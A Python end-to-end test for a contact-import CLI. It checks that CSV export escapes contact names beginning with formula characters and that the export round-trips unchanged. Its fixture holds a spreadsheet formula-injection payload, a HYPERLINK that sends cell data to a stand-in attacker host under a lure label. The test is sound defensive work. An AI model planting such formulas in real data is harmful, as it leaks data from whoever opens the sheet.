"""A contact's name is what they call themselves on Telegram or WeCom, so it can be a formula
(`=HYPERLINK(…)`). `xiaoer export contacts x.csv` must not hand it to the operator's spreadsheet
as one, and `xiaoer import` of that export must still change nothing (the export round-trips)."""

from __future__ import annotations

import csv
import sqlite3
from pathlib import Path

from tests import org_sheets_data as data
from tests.e2e.test_shell import xiaoer

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此领取补贴")'


def test_a_contact_named_as_a_formula_is_exported_as_text_and_reads_back_unchanged(
    tmp_path: Path,
) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'centre.db'}"

    def run(*args: str) -> str:
        done = xiaoer(*args, "-d", url, cwd=tmp_path)
        assert done.returncode == 0, done.stdout + done.stderr
        return done.stdout

    enterprises = list(data.enterprise_rows(2, 0))
    for row in enterprises:
        row[-1] = ""  # no liaison officer: none is imported here
    data.write(tmp_path / "enterprises.csv", data.ENTERPRISE_HEADERS, iter(enterprises))
    contacts: list[list[object]] = [
        [data.credit_code(0), HOSTILE, "+8613900000001"],
        [data.credit_code(1), "'=1+1", data.phone(2)],  # an apostrophe of the person's own
        [data.credit_code(1), "@张三", data.phone(3)],
    ]
    data.write(tmp_path / "contacts.csv", data.CONTACT_HEADERS, iter(contacts))
    run("import", "enterprises", "enterprises.csv")
    run("import", "contacts", "contacts.csv")

    run("export", "contacts", "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in list(csv.reader(file))[1:] for cell in row]
    # nothing a spreadsheet opening the file would run: each such cell starts with an apostrophe
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝")), cells
    assert {f"'{HOSTILE}", "''=1+1", "'@张三"} <= set(cells)

    again = run("import", "contacts", "out.csv")
    assert "新增 0，修改 0" in again, again
    with sqlite3.connect(tmp_path / "centre.db") as conn:
        names = {row[0] for row in conn.execute("SELECT display_name FROM contacts")}
    assert {HOSTILE, "'=1+1", "@张三"} <= names  # beside the seeded demo contacts
    run("export", "contacts", "again.csv")
    assert (tmp_path / "again.csv").read_bytes() == (tmp_path / "out.csv").read_bytes()
